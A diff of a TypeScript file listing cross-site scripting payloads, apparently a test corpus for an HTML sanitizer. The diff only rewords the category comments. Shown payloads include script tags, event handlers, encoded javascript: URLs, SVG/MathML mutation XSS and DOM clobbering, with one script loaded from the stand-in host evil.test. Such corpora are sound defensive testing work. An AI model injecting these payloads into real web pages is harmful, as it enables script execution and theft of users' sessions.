@@ -1,4 +1,4 @@
-/** What is tried to make a browser run something, by the part of HTML that it misuses. */
+/** Script injection attempts, grouped by the part of HTML that they misuse. */
 export const attacks: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.test/x.js></sCrIpT>',
@@ -75,7 +75,7 @@ export const attacks: readonly string[] = [
   "';alert(1)//",
   '<x contenteditable onblur=alert(1)>x</x>',
   '<p>\u0000<script\u0000>alert(1)</script></p>',
-  // Tags that are opened, closed or nested in ways that parsers mend.
+  // Malformed tags that parsers repair.
   '<script/src=data:,alert(1)>',
   '<script src="data:text/javascript,alert(1)"></script>',
   '<script type="module">import("data:text/javascript,alert(1)")</script>',
@@ -96,7 +96,7 @@ export const attacks: readonly string[] = [
   '<p "><img src=x onerror=alert(1)>',
   '<p a=">" onmouseover=alert(1)>x</p>',
   '<a href="https://good.test" a=">" onclick=alert(1)>x</a>',
-  // Handlers that need nobody to touch anything, or only a touch.
+  // Event handlers that fire by themselves or on a slight interaction.
   '<img src onerror=alert(1)>',
   '<img src="/api/file/get?t=x" onload=alert(1)>',
   '<img src=x:x onerror\u000b=alert(1)>',
@@ -154,7 +154,7 @@ export const attacks: readonly string[] = [
   '<noframes><img src=x onerror=alert(1)></noframes>',
   '<plaintext><img src=x onerror=alert(1)>',
   '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
-  // Addresses in other writings.
+  // URLs in other notations.
   '<a href="javascript&colon;alert(1)">x</a>',
   '<a href="javascript&#58alert(1)">x</a>',
   '<a href="java&#0000010script:alert(1)">x</a>',
@@ -189,7 +189,7 @@ export const attacks: readonly string[] = [
   '<a xlink:href="javascript:alert(1)">x</a>',
   '<a href="https://good.test" formaction="javascript:alert(1)" action="javascript:alert(1)">x</a>',
   '<area shape=default href="javascript:alert(1)"><map name=x><area href="javascript:alert(1)"></map>',
-  // Other languages in the page, and what changes its meaning when it is read again.
+  // SVG, MathML, and markup that means something else when it is parsed again (mutation XSS).
   '<svg><style><img src=x onerror=alert(1)></style></svg>',
   '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
   '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
@@ -228,7 +228,7 @@ export const attacks: readonly string[] = [
   '\ud83d\ude00<img src=x onerror=alert(1)>\ud83d\ude00',
   `<p ${'a=1 '.repeat(500)}onclick=alert(1)>x</p>`,
   `${'<b>'.repeat(600)}<img src=x onerror=alert(1)>`,
-  // Names and addresses that code of the page may stumble over.
+  // DOM clobbering, and attributes that the app's own code uses.
   '<p id="__proto__" name="constructor">x</p>',
   '<a id="defaultView" href="https://good.test">x</a><a id="defaultView" name="x" href="tel:1">x</a>',
   '<form id=document><input name=cookie></form>',
